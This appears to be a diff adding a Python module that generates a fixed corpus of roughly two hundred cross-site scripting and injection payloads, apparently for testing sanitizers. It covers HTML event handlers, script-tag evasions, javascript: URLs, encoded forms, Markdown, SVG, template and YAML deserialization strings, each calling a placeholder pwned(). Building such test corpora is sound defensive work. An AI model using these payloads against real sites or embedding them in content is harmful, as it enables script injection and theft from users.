@@ -1,0 +1,128 @@
+"""Two hundred ways to smuggle code into a page: through tags, attributes, Markdown, SVG, JSON, YAML and templates."""
+
+from __future__ import annotations
+
+CODE = "pwned()"
+
+_HANDLERS = (
+    ("img src=x", "onerror"),
+    ("svg", "onload"),
+    ("body", "onload"),
+    ("body", "onpageshow"),
+    ("body", "onfocus"),
+    ("video src=x", "onerror"),
+    ("audio src=x", "onerror"),
+    ("video><source", "onerror"),
+    ("input autofocus", "onfocus"),
+    ("select autofocus", "onfocus"),
+    ("textarea autofocus", "onfocus"),
+    ("button autofocus", "onfocus"),
+    ("a href=# autofocus", "onfocus"),
+    ("details open", "ontoggle"),
+    ("iframe src=about:blank", "onload"),
+    ("object data=x", "onerror"),
+    ("embed src=x", "onload"),
+    ("link rel=stylesheet href=x", "onerror"),
+    ("script src=x", "onerror"),
+    ("style", "onload"),
+    ("marquee", "onstart"),
+    ("div tabindex=1 autofocus", "onfocusin"),
+    ("p style=animation-name:x", "onanimationstart"),
+    ("svg><animate attributeName=x dur=1s", "onbegin"),
+    ("svg><set attributeName=x to=y", "onbegin"),
+    ("math><mi", "onmouseover"),
+    ("table><td background=x", "onerror"),
+    ("form><button formaction=javascript:pwned()", "onclick"),
+    ("dialog open", "onclose"),
+    ("meter", "onmouseenter"),
+)
+_WRAPS = ("<{0} {1}={2}>", "</p><{0} {1}='{2}'>", '"><{0} {1}="{2}">', "'><{0}/{1}={2}//")
+
+_ATTRIBUTES = tuple(
+    quote + text
+    for quote in ('"', "'", "`", "")
+    for text in (" onmouseover=pwned() x=", " autofocus onfocus=pwned() x=", " style=color:red onclick=pwned() x=", "/onerror=pwned()/x=")
+)
+
+_SINGLE = (
+    "<script>pwned()</script>",
+    "<ScRiPt>pwned()</sCrIpT>",
+    "<script/x>pwned()</script>",
+    "<script >pwned()</script >",
+    "<scr<script>ipt>pwned()</scr</script>ipt>",
+    "</script><script>pwned()</script>",
+    "</title><script>pwned()</script>",
+    "</style><script>pwned()</script>",
+    "</textarea><script>pwned()</script>",
+    "</noscript><script>pwned()</script>",
+    "</template><script>pwned()</script>",
+    "</svg><script>pwned()</script>",
+    "</text></g></svg><img src=x onerror=pwned()>",
+    "</details></section></article></main><script>pwned()</script>",
+    "--><script>pwned()</script>",
+    "<!--><script>pwned()</script>",
+    "]]><script>pwned()</script>",
+    "<![CDATA[<script>pwned()</script>]]>",
+    "<?xml version='1.0'?><script>pwned()</script>",
+    "<!ENTITY x 'y'> &x; &undefined;",
+    "<base href=//evil.test/>",
+    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
+    "<a href=javascript:pwned()>x</a>",
+    "<a href='java&#115;cript:pwned()'>x</a>",
+    "<a href='javascript&colon;pwned()'>x</a>",
+    "<a xlink:href=javascript:pwned()>x</a>",
+    "<svg><script>pwned()</script></svg>",
+    "<svg><script href=data:,pwned() /></svg>",
+    "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()>#x'/></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned()</script>'></foreignObject></svg>",
+    "<iframe srcdoc='<script>parent.pwned()</script>'>",
+    "<iframe src=javascript:parent.pwned()>",
+    "<object data='data:text/html,<script>parent.pwned()</script>'>",
+    "<form action=javascript:pwned()><button>x</button></form>",
+    "<math><maction actiontype=statusline xlink:href=javascript:pwned()>x</maction></math>",
+    "&#60;script&#62;pwned()&#60;/script&#62;",
+    "&lt;img src=x onerror=pwned()&gt;",
+    "&amp;lt;script&amp;gt;pwned()",
+    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
+    "\\x3cscript\\x3epwned()\\x3c/script\\x3e",
+    "%3Cscript%3Epwned()%3C/script%3E",
+    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
+    "[x](javascript:pwned())",
+    "[x](JaVaScRiPt:pwned())",
+    "[x](data:text/html,<script>pwned()</script>)",
+    "[x](vbscript:pwned())",
+    '[x](https://a.test/ "onmouseover=pwned()")',
+    '[x](https://a.test/"onmouseover=pwned())',
+    "![x](x){: onerror=pwned() }",
+    "x {: onclick=pwned() }",
+    "# x {: #y onclick=pwned() }",
+    '{: onmouseover="pwned()" autofocus tabindex=1 onfocus=pwned() }',
+    "<javascript:pwned()>",
+    "[x]: javascript:pwned()",
+    "`</code><script>pwned()</script>`",
+    "**<img src=x onerror=pwned()>**",
+    "* <img src=x onerror=pwned()>",
+    "> <script>pwned()</script>",
+    "| a | <script>pwned()</script> |",
+    "```html <script>pwned()</script> ```",
+    "{{ pwned() }} {% raw %} {# x",
+    "${pwned()} #{pwned()} <%= pwned() %>",
+    '{"x": "</script><script>pwned()</script>"}',
+    '"}]}</script><script>pwned()</script>',
+    "'; pwned(); '",
+    '"; pwned(); "',
+    "--- x: y ---",
+    "!!python/object:os.system [x]",
+    "&x *x <<: *x",
+    "\u202e<img src=x onerror=pwned()>",
+    "\u200b<\u200bscript>pwned()</script>",
+    "<x onclick=pwned()>",
+    "<custom-element onfocus=pwned() tabindex=1 autofocus>",
+)
+
+
+def payloads() -> tuple[str, ...]:
+    """The payloads, each once, in an order that does not change."""
+    handled = (wrap.format(tag, handler, CODE) for tag, handler in _HANDLERS for wrap in _WRAPS)
+    return tuple(dict.fromkeys((*_SINGLE, *handled, *_ATTRIBUTES)))
